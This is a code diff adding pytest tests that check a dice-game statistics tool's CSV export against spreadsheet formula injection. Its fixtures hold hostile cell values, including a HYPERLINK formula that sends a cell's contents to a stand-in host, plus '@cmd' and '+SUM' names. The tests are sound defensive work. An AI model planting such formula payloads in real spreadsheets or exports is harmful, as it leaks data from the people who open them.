@@ -78,6 +78,55 @@ def test_text_and_csv():
     assert code == 0 and out.splitlines()[0].startswith("player,profile,game,games,wins")
 
 
+HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")", "+SUM(1,2)", "@cmd",
+           "-2+3")
+
+
+def hostile_school(tmp_path: Path) -> Path:
+    """The School fixture (Boris's school result is negative) with names a spreadsheet would
+    run as formulas."""
+    doc = json.loads((Path(__file__).parent / "fixtures" / "school.json").read_text())
+    doc["record"]["players"][0]["name"] = HOSTILE[0]
+    doc["record"]["players"][1]["name"] = HOSTILE[3]
+    path = tmp_path / "school.json"
+    path.write_text(json.dumps(doc), encoding="utf-8")
+    return path
+
+
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
+    """OWASP's CSV injection rule: a text cell starting with = + - @, a tab or a carriage
+    return gets a leading single quote; negative figures are written as numbers."""
+    import csv
+    code, out, _ = stats(str(hostile_school(tmp_path)), "--csv")
+    assert code == 0
+    rows = {r["player"]: r for r in csv.DictReader(io.StringIO(out))}
+    assert set(rows) == {"'" + HOSTILE[0], "'" + HOSTILE[3]}
+    boris = rows["'-2+3"]
+    assert boris["school_result_mean"] == "-120" and boris["mean_points"].startswith("-")
+    assert all(v[:1] not in ("=", "+", "@", "\t", "\r") and (v[:1] != "-" or _number(v))
+               for r in rows.values() for v in r.values())
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_csv_neutralises_every_leading_character_owasp_names():
+    from dicegames.stats.aggregate import GameStats, PlayerStats, Streaks, to_csv
+    names = (*HOSTILE, "\tTAB", "\rCR", "Anna", "'quoted", "- dash")
+    stats_ = [PlayerStats(f"k{i}", n, "", GameStats("zonk", 1, 0, -350, -350, {}), {},
+                          Streaks()) for i, n in enumerate(names)]
+    import csv
+    rows = list(csv.reader(io.StringIO(to_csv(stats_))))[1:]
+    assert [r[0] for r in rows] == ["'" + n for n in HOSTILE] + ["'\tTAB", "'\rCR", "Anna",
+                                                                 "'quoted", "'- dash"]
+    assert all(r[6] == "-350" and r[7] == "-350" for r in rows)
+
+
 @pytest.mark.parametrize("args,needle", [
     (("--game", "chess"), "unknown game"),
     (("--player", "Nobody"), "no player named"),
